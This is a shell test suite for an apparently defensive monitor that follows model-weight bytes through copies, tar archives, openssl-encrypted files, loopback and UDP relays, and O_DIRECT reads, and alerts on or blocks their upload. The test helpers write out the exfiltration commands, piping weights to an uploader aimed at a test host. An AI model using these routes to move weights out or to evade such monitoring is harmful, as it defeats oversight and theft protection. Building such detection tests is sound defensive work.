@@ -1,0 +1,331 @@
+#!/usr/bin/env bats
+# Propagation (issue 10): bytes of the weights followed through derived files
+# (copies, archives, encryptions, copies of copies) and local relays, to an
+# upload by a process that never touched the weights. Every path is tested in
+# monitor and in enforce mode, and every alert must name the original weight
+# file in taint.sources and each hop in taint.chain.
+
+load ../lib/harness
+
+setup() { vigil_setup; }
+teardown() {
+	if mountpoint -q "$T/bind" 2>/dev/null; then umount "$T/bind"; fi
+	vigil_teardown
+}
+
+BUDGET=$((1 << 20))
+
+# upload FILE MODE: a fresh process sends FILE to the test host; monitor: it
+# all arrives and is alerted; enforce: the connection is refused, nothing
+# arrives. Sets status like leak.
+upload() {
+	leak --src "$1" --host "$PEER4" --port "$PORT"
+	if [ "$2" = enforce ]; then
+		# refused at connect (3), or killed first by a chain rule
+		# (weights-encrypt-then-send sees openssl in the chain: 137)
+		[ "$status" -eq 3 ] || [ "$status" -eq 137 ]
+		[ "$(sink_bytes)" -le "$BUDGET" ]
+		run alert_wait rule=weights-connect action=blocked mode=enforce \
+			taint.sources.0.path="$W/model.safetensors" "${@:3}"
+	else
+		[ "$status" -eq 0 ]
+		[ "$(sink_bytes)" -eq "$(stat -c %s "$1")" ]
+		run alert_wait rule=weights-egress action=alert mode=monitor \
+			taint.sources.0.path="$W/model.safetensors" "${@:3}"
+	fi
+	[ "$status" -eq 0 ]
+	# the copy is never named as a source
+	run alert_none kind=alert taint.sources.*.path~"$T/stash"
+	[ "$status" -eq 0 ]
+}
+
+# copies of copies, the first deleted before the upload
+copy_chain() {
+	start_sink tcp
+	start_agent --mode "$1"
+	mkdir "$T/stash"
+	run in_cg cp "$W/model.safetensors" "$T/stash/a.bin"
+	[ "$status" -eq 0 ]
+	sleep 0.3
+	run in_cg cp "$T/stash/a.bin" "$T/stash/b.bin"
+	[ "$status" -eq 0 ]
+	rm "$T/stash/a.bin"
+	sleep 0.3
+	upload "$T/stash/b.bin" "$1" process.cmdline~b.bin \
+		taint.chain.0.via=read taint.chain.0.comm=cp \
+		taint.chain.1.via=file taint.chain.1.comm=cp taint.chain.1.path="$T/stash/a.bin" \
+		taint.chain.2.via=file taint.chain.2.path="$T/stash/b.bin" taint.depth=2 \
+		taint.sources.0.bytes_read'>='4194304
+	stop_agent
+	[ "$(alert_get agent.copies_protected kind=agent_stop)" -ge 2 ]
+	[ "$(alert_get agent.copy_origins_dropped kind=agent_stop)" -eq 0 ]
+}
+
+@test "propagate: monitor: a copy of a deleted copy names the weights and both hops" {
+	copy_chain monitor
+}
+
+@test "propagate: enforce: a copy of a deleted copy is refused, named by the weights" {
+	copy_chain enforce
+}
+
+# tar czf: tar reads the weights, gzip (its child, fed through a pipe) writes
+tar_chain() {
+	start_sink tcp
+	start_agent --mode "$1"
+	mkdir "$T/stash"
+	run in_cg tar -C "$W" -czf "$T/stash/w.tgz" model.safetensors
+	[ "$status" -eq 0 ]
+	sleep 0.3
+	upload "$T/stash/w.tgz" "$1" process.cmdline~w.tgz taint.chain.0.via=read \
+		taint.chain.*.path="$T/stash/w.tgz" taint.chain.*.via=file
+}
+
+@test "propagate: monitor: an upload of a tar czf archive names the weights" {
+	tar_chain monitor
+}
+
+@test "propagate: enforce: an upload of a tar czf archive is refused, named by the weights" {
+	tar_chain enforce
+}
+
+openssl_chain() {
+	start_sink tcp
+	start_agent --mode "$1"
+	mkdir "$T/stash"
+	run in_cg openssl enc -aes-256-ctr -pbkdf2 -pass pass:not-a-secret \
+		-in "$W/model.safetensors" -out "$T/stash/w.enc"
+	[ "$status" -eq 0 ]
+	sleep 0.3
+	upload "$T/stash/w.enc" "$1" process.cmdline~w.enc \
+		taint.chain.0.via=read taint.chain.0.comm=openssl \
+		taint.chain.1.via=file taint.chain.1.path="$T/stash/w.enc"
+}
+
+@test "propagate: monitor: an upload of an openssl-encrypted copy names the weights" {
+	openssl_chain monitor
+}
+
+@test "propagate: enforce: an upload of an openssl-encrypted copy is refused, named by the weights" {
+	openssl_chain enforce
+}
+
+# ---- local relays ---------------------------------------------------------
+
+# relay_run KIND LHOST MODE [relay args]: a relay on LHOST forwards to the test
+# host; a tainted process sends it the weights. Sets relay_rc.
+relay_run() {
+	local kind="$1" lhost="$2" mode="$3"
+	shift 3
+	start_sink "$kind"
+	start_agent --mode "$mode" ${RELAY_AGENT_ARGS:-}
+	LPORT=$((PORT + 2000))
+	in_cg python3 "$SCEN/relay.py" "$kind" "$lhost" "$LPORT" "$PEER4" "$PORT" \
+		"$T/relay.ready" "$@" > "$T/relay.out" &
+	local relay=$!
+	for _ in $(seq 100); do [ -e "$T/relay.ready" ] && break; sleep 0.05; done
+	if [ "$kind" = udp ]; then
+		leak --src "$W/model.safetensors" --host "$lhost" --port "$LPORT" --udp \
+			--chunk 1400 --pace 0.0002
+	else
+		leak --src "$W/model.safetensors" --host "$lhost" --port "$LPORT"
+	fi
+	# wait in this shell: a relay killed early is already reaped
+	relay_rc=0
+	wait "$relay" || relay_rc=$?
+}
+
+# relay_check KIND MODE: what must hold after relay_run
+relay_check() {
+	local kind="$1" mode="$2" got
+	got="$(sink_bytes "$PORT" "$kind")"
+	if [ "$mode" = enforce ]; then
+		[ "$relay_rc" -ne 0 ]
+		[ "$got" -le "$BUDGET" ]
+		run alert_wait mode=enforce process.cmdline~relay.py \
+			taint.sources.0.path="$W/model.safetensors" \
+			taint.chain.0.via=read taint.chain.1.via=loopback taint.depth=1
+		[ "$status" -eq 0 ]
+		run alert_wait mode=enforce process.cmdline~relay.py action~e
+		[ "$status" -eq 0 ]
+		figure "relay ($kind) bytes past the relay, enforce" "$got"
+	else
+		[ "$relay_rc" -eq 0 ]
+		if [ "$kind" = tcp ]; then
+			[ "$got" -eq $((4 << 20)) ]
+		fi
+		run alert_wait rule=weights-egress mode=monitor process.cmdline~relay.py \
+			taint.sources.0.path="$W/model.safetensors" \
+			taint.chain.0.via=read taint.chain.0.comm=python3 \
+			taint.chain.1.via=loopback network.daddr="$PEER4" network.dport="$PORT"
+		[ "$status" -eq 0 ]
+		run alert_wait rule=weights-egress-budget mode=monitor process.cmdline~relay.py
+		[ "$status" -eq 0 ]
+	fi
+	# the relay's loopback leg itself is never egress
+	run alert_none kind=alert network.dport="$LPORT"
+	[ "$status" -eq 0 ]
+}
+
+@test "propagate: monitor: a TCP relay on 127.0.0.1 is tainted by what it receives" {
+	relay_run tcp 127.0.0.1 monitor
+	relay_check tcp monitor
+}
+
+@test "propagate: enforce: a TCP relay on 127.0.0.1 is stopped at the budget" {
+	relay_run tcp 127.0.0.1 enforce
+	relay_check tcp enforce
+}
+
+@test "propagate: monitor: a TCP relay on the host's own address is tainted" {
+	relay_run tcp "$HOST4" monitor
+	relay_check tcp monitor
+}
+
+@test "propagate: enforce: a TCP relay on the host's own address is stopped at the budget" {
+	relay_run tcp "$HOST4" enforce
+	relay_check tcp enforce
+}
+
+@test "propagate: monitor: a dual-stack TCP relay reached over ::1 is tainted" {
+	relay_run tcp ::1 monitor --connect-late
+	relay_check tcp monitor
+}
+
+@test "propagate: enforce: a relay connecting out after the handoff is refused" {
+	relay_run tcp ::1 enforce --connect-late
+	relay_check tcp enforce
+}
+
+@test "propagate: monitor: a UDP forwarder (DNS-stub shape) is tainted" {
+	relay_run udp 127.0.0.1 monitor
+	relay_check udp monitor
+}
+
+@test "propagate: enforce: a UDP forwarder (DNS-stub shape) is stopped" {
+	relay_run udp 127.0.0.1 enforce
+	relay_check udp enforce
+}
+
+# a tainted process sends a relay only N bytes (a health check, a log line)
+small_send() {
+	local mode="$1" n="$2"
+	shift 2
+	start_sink tcp
+	start_agent --mode "$mode" "$@"
+	LPORT=$((PORT + 2000))
+	in_cg python3 "$SCEN/relay.py" tcp 127.0.0.1 "$LPORT" "$PEER4" "$PORT" \
+		"$T/relay.ready" > "$T/relay.out" &
+	local relay=$!
+	for _ in $(seq 100); do [ -e "$T/relay.ready" ] && break; sleep 0.05; done
+	run in_cg python3 "$SCEN/relay.py" send-some "$W/model.safetensors" 127.0.0.1 "$LPORT" "$n"
+	[ "$status" -eq 0 ]
+	relay_rc=0
+	wait "$relay" || relay_rc=$?
+}
+
+@test "propagate: monitor: a health check from a tainted process taints nobody (by bytes, not contact)" {
+	small_send monitor 4096
+	[ "$relay_rc" -eq 0 ]
+	[ "$(sink_bytes)" -eq 4096 ]
+	stop_agent
+	run alert_none kind=alert process.cmdline~relay.py
+	[ "$status" -eq 0 ]
+}
+
+@test "propagate: enforce: a health check from a tainted process taints nobody and passes" {
+	small_send enforce 4096
+	[ "$relay_rc" -eq 0 ]
+	[ "$(sink_bytes)" -eq 4096 ]
+	stop_agent
+	run alert_none kind=alert process.cmdline~relay.py
+	[ "$status" -eq 0 ]
+}
+
+@test "propagate: monitor: --relay-min-bytes lowers the threshold: the same 4 KiB taints" {
+	small_send monitor 4096 --relay-min-bytes 1KiB
+	[ "$relay_rc" -eq 0 ]
+	run alert_wait rule=weights-egress process.cmdline~relay.py taint.chain.1.via=loopback \
+		taint.sources.0.path="$W/model.safetensors"
+	[ "$status" -eq 0 ]
+}
+
+# ---- other read paths -----------------------------------------------------
+
+# skip where the kernel gives no direct-I/O hook (docs/KERNELS.md: direct)
+need_direct() {
+	local impl
+	impl="$("$VIGIL" check --json 2>/dev/null | python3 -c \
+		'import json,sys; print(json.load(sys.stdin)["capabilities"]["direct"].get("family") or "blind")')"
+	[ "$impl" != blind ] || skip "no direct-I/O hook on this kernel (capability direct: blind)"
+}
+
+@test "propagate: monitor: O_DIRECT reads taint (dd iflag=direct | uploader)" {
+	need_direct
+	start_sink tcp
+	start_agent --mode monitor
+	run in_cg sh -c 'dd if="$1" iflag=direct bs=1M status=none | python3 "$2" --stdin --host "$3" --port "$4"' \
+		sh "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
+	[ "$status" -eq 0 ]
+	[ "$(sink_bytes)" -eq $((4 << 20)) ]
+	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
+		taint.sources.0.bytes_read'>='4194304 taint.chain.0.comm=dd taint.chain.0.via=read \
+		taint.chain.1.via=pipe
+	[ "$status" -eq 0 ]
+}
+
+@test "propagate: enforce: O_DIRECT reads taint: the uploader is stopped" {
+	need_direct
+	start_sink tcp
+	start_agent --mode enforce
+	run in_cg sh -c 'dd if="$1" iflag=direct bs=1M status=none | python3 "$2" --connect-first --stdin --host "$3" --port "$4"' \
+		sh "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
+	[ "$status" -eq 137 ] || [ "$status" -eq 3 ]
+	[ "$(sink_bytes)" -le "$BUDGET" ]
+	run alert_wait mode=enforce taint.sources.0.path="$W/model.safetensors" \
+		taint.chain.0.comm=dd taint.chain.1.via=pipe action~e
+	[ "$status" -eq 0 ]
+}
+
+@test "propagate: monitor: an O_DIRECT read through a bind mount taints (the real inode)" {
+	need_direct
+	start_sink tcp
+	mkdir "$T/bind"
+	mount --bind "$W" "$T/bind"
+	start_agent --mode monitor
+	run in_cg sh -c 'dd if="$1" iflag=direct bs=1M status=none | python3 "$2" --stdin --host "$3" --port "$4"' \
+		sh "$T/bind/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
+	umount "$T/bind"
+	[ "$status" -eq 0 ]
+	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
+		taint.chain.0.comm=dd
+	[ "$status" -eq 0 ]
+}
+
+# ---- read coverage ----------------------------------------------------------
+
+@test "propagate: monitor: an alert says how much of the file was read" {
+	start_sink tcp
+	start_agent --mode monitor
+	run in_cg sh -c 'head -c 2097152 "$1" | python3 "$2" --stdin --host "$3" --port "$4"' \
+		sh "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
+	[ "$status" -eq 0 ]
+	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
+		taint.sources.0.size=4194304 taint.sources.0.read_pct'>='45 \
+		taint.sources.0.read_pct'<='60 taint.chain.0.comm=head
+	[ "$status" -eq 0 ]
+	pct="$(alert_get taint.sources.0.read_pct rule=weights-egress)"
+	run alert_wait rule=weights-egress message~"model.safetensors ($pct% of it read)"
+	[ "$status" -eq 0 ]
+	figure "read coverage of a 2 MiB head of a 4 MiB file (%)" "$pct"
+}
+
+@test "propagate: enforce: a whole read says 100%" {
+	start_sink tcp
+	start_agent --mode enforce
+	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 3 ]
+	run alert_wait rule=weights-connect action=blocked taint.sources.0.read_pct=100 \
+		message~"(100% of it read)"
+	[ "$status" -eq 0 ]
+}
